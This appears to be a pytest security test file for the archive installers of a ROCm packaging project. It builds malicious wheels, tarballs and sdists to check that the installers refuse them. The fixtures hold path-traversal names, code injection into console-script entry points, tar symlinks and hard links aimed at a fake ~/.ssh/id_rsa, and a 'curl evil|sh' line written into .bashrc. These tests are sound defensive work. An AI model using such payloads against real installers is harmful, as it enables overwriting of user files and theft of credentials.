"""Hostile upstream archives, from the victim's side (issue 37: a10, a11, a12): a wheel, the devel tarball and the
`rocm` sdist, each installed by the recipes' own scripts as a build runs them, try to write outside the prefix,
write through a link, link a secret in, or paste text into Python. A canary outside (a fake $HOME with .bashrc and
.ssh/id_rsa) stays as it was, nothing of it lands in the prefix, and the build stops in one line naming the
member, with no traceback."""
from __future__ import annotations

import io
import os
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from prebuilt_helpers import make_wheel

REPO = Path(__file__).resolve().parent.parent
SHARED = REPO / "recipes/_shared"
BASHRC, KEY = "# the victim's own\n", "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n"


@pytest.fixture
def victim(tmp_path):
    """(home, prefix, site): a canary home beside the build's prefix."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".bashrc").write_text(BASHRC)
    (home / ".ssh/id_rsa").write_text(KEY)
    prefix = tmp_path / "prefix"
    site = prefix / "lib/python3.12/site-packages"
    site.mkdir(parents=True)
    return home, prefix, site


def untouched(home: Path, prefix: Path) -> None:
    assert sorted(p.name for p in home.rglob("*")) == [".bashrc", ".ssh", "id_rsa"]
    assert (home / ".bashrc").read_text() == BASHRC and (home / ".ssh/id_rsa").read_text() == KEY
    assert not any("secret" in p.read_text(errors="replace") for p in prefix.rglob("*") if p.is_file())
    assert not any(p.is_symlink() and not p.resolve().is_relative_to(prefix.resolve()) for p in prefix.rglob("*"))


def refused(result: subprocess.CompletedProcess, *says: str) -> None:
    assert result.returncode == 1, result.stdout + result.stderr
    [line] = result.stderr.strip().splitlines()
    assert "Traceback" not in result.stderr and all(s in line for s in says), line


def install_wheels(prefix: Path, wheel: Path) -> subprocess.CompletedProcess:
    env = {"PATH": os.environ["PATH"], "PREFIX": str(prefix), "PYTHON_VERSION": "3.12"}
    return subprocess.run([sys.executable, str(SHARED / "install_wheels.py"), str(wheel)], env=env,
                          capture_output=True, text=True)


def rocm_wheels(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(SHARED / "rocm_wheels.py"), *map(str, args)], capture_output=True,
                          text=True, env={"PATH": os.environ["PATH"], "PYTHON_VERSION": "3.12"})


@pytest.mark.parametrize("entry", [
    "../../home/.bashrc = evil:main",                                  # a name that climbs out of bin/
    "{home}/.bashrc = evil:main",                                     # an absolute name
    "tool = os;import os;os.system('touch {home}/pwned');x:main",     # text pasted into the wrapper's Python
    "tool = evil:main()\nimport os",                                  # a call where an attribute belongs
    ".hidden = evil:main",
])
def test_a10_a_console_script_never_leaves_bin_nor_becomes_code(victim, entry):
    home, prefix, _ = victim
    entry = entry.format(home=home)
    wheel = make_wheel(prefix.parent / "wheels", "evil", "1.0", "py3-none-any", {"evil/__init__.py": "def main(): pass\n"},
                       entry_points=f"[console_scripts]\n{entry}\n")
    refused(install_wheels(prefix, wheel), "evil-1.0-py3-none-any.whl", "console script", "refusing")
    untouched(home, prefix)
    assert not (prefix / "bin").exists() or not list((prefix / "bin").iterdir())


def test_a10_a_real_console_script_is_still_written(victim):
    home, prefix, _ = victim
    wheel = make_wheel(prefix.parent / "wheels", "tool", "1.0", "py3-none-any", {"tool/cli.py": "def main(): pass\n"},
                       entry_points="[console_scripts]\ntool-cli = tool.cli:main [extra]\n")
    assert install_wheels(prefix, wheel).returncode == 0
    assert "from tool.cli import main" in (prefix / "bin/tool-cli").read_text()


def devel_wheel(folder: Path, members: list[tarfile.TarInfo | tuple[tarfile.TarInfo, bytes]]) -> Path:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for member in members:
            info, data = member if isinstance(member, tuple) else (member, None)
            if data is not None:
                info.size = len(data)
            archive.addfile(info, io.BytesIO(data) if data is not None else None)
    return make_wheel(folder, "rocm-sdk-devel", "10.1.0", "py3-none-linux_x86_64",
                      {"rocm_sdk_devel/__init__.py": "", "rocm_sdk_devel/_devel.tar": buffer.getvalue()})


def link(name: str, target: str, kind=tarfile.SYMTYPE) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info


def regular(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    return tarfile.TarInfo(name), data


@pytest.mark.parametrize("members, says", [
    # a symlink out, then a file written through it (a11: it overwrote ~/.bashrc)
    (lambda home: [link("_rocm_sdk_devel/etc", str(home)), regular("_rocm_sdk_devel/etc/.bashrc", b"curl evil|sh\n")],
     "_rocm_sdk_devel/etc"),
    (lambda home: [link("_rocm_sdk_devel/etc", "../../../home"), regular("_rocm_sdk_devel/etc/.bashrc", b"x\n")],
     "_rocm_sdk_devel/etc"),
    # a hard link to the victim's key (a11: it put ~/.ssh/id_rsa into site-packages and the package)
    (lambda home: [link("_rocm_sdk_devel/key", str(home / ".ssh/id_rsa"), tarfile.LNKTYPE)], "_rocm_sdk_devel/key"),
    (lambda home: [link("_rocm_sdk_devel/key", "../../home/.ssh/id_rsa", tarfile.LNKTYPE)], "_rocm_sdk_devel/key"),
    # a hard link to a symlink member (os.link would follow it out)
    (lambda home: [link("_rocm_sdk_devel/hop", "../../../home/.ssh/id_rsa"),
                   link("_rocm_sdk_devel/key", "_rocm_sdk_devel/hop", tarfile.LNKTYPE)], "_rocm_sdk_devel/hop"),
    # an absolute or climbing member name
    (lambda home: [regular(str(home / ".bashrc"), b"x\n")], ".bashrc"),
    (lambda home: [regular("../../../home/.bashrc", b"x\n")], "home/.bashrc"),
])
def test_a11_the_devel_tarball_stays_inside_site_packages(victim, members, says):
    home, prefix, site = victim
    wheel = devel_wheel(prefix.parent / "wheels", [regular("_rocm_sdk_devel/__init__.py", b""), *members(home)])
    assert install_wheels(prefix, wheel).returncode == 0
    refused(rocm_wheels("expand-devel", site), "rocm_wheels.py:", says, "refus")
    untouched(home, prefix)


def test_a11_a_member_named_as_an_earlier_symlink_replaces_it_and_never_writes_through(victim):
    """A link inside the tree (`a -> ../_rocm_sdk_core/lib/libamdhip64.so.7`) and then a file of that name: the
    file replaces the link; the core library it pointed to is not overwritten."""
    home, prefix, site = victim
    core = site / "_rocm_sdk_core/lib/libamdhip64.so.7"
    core.parent.mkdir(parents=True)
    core.write_text("core's library\n")
    wheel = devel_wheel(prefix.parent / "wheels", [
        regular("_rocm_sdk_devel/__init__.py", b""),
        link("_rocm_sdk_devel/libamdhip64.so.7", "../_rocm_sdk_core/lib/libamdhip64.so.7"),
        regular("_rocm_sdk_devel/libamdhip64.so.7", b"planted\n")])
    assert install_wheels(prefix, wheel).returncode == 0
    result = rocm_wheels("expand-devel", site)
    assert result.returncode == 0, result.stderr
    assert core.read_text() == "core's library\n"
    assert (site / "_rocm_sdk_devel/libamdhip64.so.7").read_text() == "planted\n"
    untouched(home, prefix)


def sdist_tree(root: Path, version: str = "10.1.0") -> Path:
    tree = root / "rocm-10.1.0"
    (tree / "src/rocm_sdk").mkdir(parents=True)
    (tree / "PKG-INFO").write_text(f"Metadata-Version: 2.1\nName: rocm\nVersion: {version}\n")
    (tree / "src/rocm_sdk/__init__.py").write_text("")
    return tree


def test_a12_an_sdists_symlink_out_is_refused_not_copied_as_its_target(victim):
    home, prefix, site = victim
    tree = sdist_tree(prefix.parent / "src")
    (tree / "src/rocm_sdk/key").symlink_to(home / ".ssh/id_rsa")
    refused(rocm_wheels("install", site, prefix / "bin", tree), "rocm_sdk/key", "outside the sdist")
    untouched(home, prefix)


def test_a12_an_sdists_symlinked_package_folder_is_never_entered(victim):
    home, prefix, site = victim
    tree = sdist_tree(prefix.parent / "src")
    (tree / "src/rocm_sdk/ssh").symlink_to(home / ".ssh")
    refused(rocm_wheels("install", site, prefix / "bin", tree), "rocm_sdk/ssh", "outside the sdist")
    untouched(home, prefix)


@pytest.mark.parametrize("version", ["../../../home/x", "10.1.0/../../../../home/x", "1.0 evil"])
def test_a12_a_version_that_is_no_pep440_version_names_no_folder(victim, version):
    home, prefix, site = victim
    tree = sdist_tree(prefix.parent / "src", version)
    refused(rocm_wheels("install", site, prefix / "bin", tree), "no PEP 440 version", "refusing")
    untouched(home, prefix)
    assert not list(prefix.parent.rglob("*.dist-info"))


def test_a12_an_sdists_metadata_is_never_read_through_a_symlink(victim):
    home, prefix, site = victim
    tree = sdist_tree(prefix.parent / "src")
    (tree / "PKG-INFO").unlink()
    (tree / "PKG-INFO").symlink_to(home / ".ssh/id_rsa")
    refused(rocm_wheels("install", site, prefix / "bin", tree), "PKG-INFO is a symlink")
    untouched(home, prefix)


def test_a_truncated_devel_tarball_is_one_line(victim):
    home, prefix, site = victim
    wheel = devel_wheel(prefix.parent / "wheels", [regular("_rocm_sdk_devel/__init__.py", b""),
                                                   regular("_rocm_sdk_devel/lib/big.a", bytes(4096))])
    assert install_wheels(prefix, wheel).returncode == 0
    tarball = site / "rocm_sdk_devel/_devel.tar"
    tarball.write_bytes(tarball.read_bytes()[:1500])
    refused(rocm_wheels("expand-devel", site), "rocm_wheels.py:")
    untouched(home, prefix)


def test_a_wheel_is_never_written_through_a_symlink_already_in_the_prefix(victim):
    """A folder of site-packages that is a link out (planted, or left by another package): a wheel member under it
    is refused, and a member named as a link replaces the link instead of writing where it points."""
    home, prefix, site = victim
    (site / "evil").symlink_to(home)
    (site / "tool.py").symlink_to(home / ".bashrc")
    wheel = make_wheel(prefix.parent / "wheels", "tool", "1.0", "py3-none-any", {"tool.py": "x = 1\n"})
    assert install_wheels(prefix, wheel).returncode == 0
    assert not (site / "tool.py").is_symlink() and (site / "tool.py").read_text() == "x = 1\n"
    wheel = make_wheel(prefix.parent / "wheels", "evil", "1.0", "py3-none-any", {"evil/.bashrc": "curl evil | sh\n"})
    refused(install_wheels(prefix, wheel), "'lib/python3.12/site-packages/evil'", "refusing")
    (site / "evil").unlink()
    untouched(home, prefix)
